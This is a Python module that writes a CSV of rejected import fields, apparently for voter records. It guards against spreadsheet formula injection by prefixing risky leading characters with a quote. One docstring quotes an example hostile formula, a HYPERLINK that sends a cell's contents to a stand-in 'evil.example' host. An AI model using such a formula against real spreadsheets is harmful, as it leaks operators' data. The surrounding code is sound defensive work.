"""``FILE.rejects.csv``: every rejected field or row of an import, with its reason.

Rows are numbered as a spreadsheet numbers them (header = 1), and no cell can run as a
formula in the spreadsheet an operator opens it in.
"""

from __future__ import annotations

import csv
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any

from messaging.errors import InputError

#: Columns of ``FILE.rejects.csv``.
REJECTS_HEADER = ("row", "external_id", "field", "value", "reason")


def rejects_path_for(path: Path) -> Path:
    """Where the rejects of ``path`` go: ``voters.csv`` → ``voters.rejects.csv``."""
    return path.with_name(path.stem + ".rejects.csv")


@dataclass(slots=True)
class Reject:
    """One rejected field, or a whole row (``field`` external_id), and why."""

    row: int
    external_id: str
    field: str
    value: str
    reason: str

    def line(self) -> tuple[str, ...]:
        """The reject as a row of the rejects file, safe to open in a spreadsheet."""
        return (
            str(self.row),
            spreadsheet_safe(self.external_id),
            spreadsheet_safe(self.field),
            spreadsheet_safe(self.value),
            spreadsheet_safe(self.reason),
        )


#: First characters that make Excel, LibreOffice and Sheets read a cell as a formula
#: (contract §5: =, +, -, @; tab and carriage return too, as OWASP lists them).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: str) -> str:
    """``value`` as a spreadsheet shows it and never runs it: a leading ``'`` before a formula.

    Operators open the rejects file in Excel; a rejected value such as
    ``=HYPERLINK("https://evil.example/?"&A1, "fix")`` would otherwise be a live formula.
    """
    return "'" + value if value.startswith(_FORMULA_STARTS) else value


class RejectsFile:
    """``FILE.rejects.csv``, created on the first reject; a stale one is removed if none."""

    def __init__(self, path: Path) -> None:
        self._path = path
        self._stream: IO[str] | None = None
        self._writer: Any = None

    def write(self, rejects: list[Reject]) -> None:
        """Append ``rejects`` (creating the file on the first)."""
        if not rejects:
            return
        if self._writer is None:
            # utf-8-sig: the BOM makes Excel, where operators open this file, read Unicode
            # names correctly; our own importer drops it.
            try:
                self._stream = self._path.open("w", encoding="utf-8-sig", newline="")
            except OSError as exc:
                raise InputError(
                    f"cannot write {self._path}: {exc.strerror} "
                    "(rows before this point were imported)"
                ) from None
            self._writer = csv.writer(self._stream)
            self._writer.writerow(REJECTS_HEADER)
        self._writer.writerows(reject.line() for reject in rejects)

    def close(self) -> Path | None:
        """Close the file; its path, or None when nothing was rejected."""
        if self._stream is not None:
            self._stream.close()
            return self._path
        # A rejects file from an earlier import of the same file would describe rows that
        # are fine now.
        self._path.unlink(missing_ok=True)
        return None
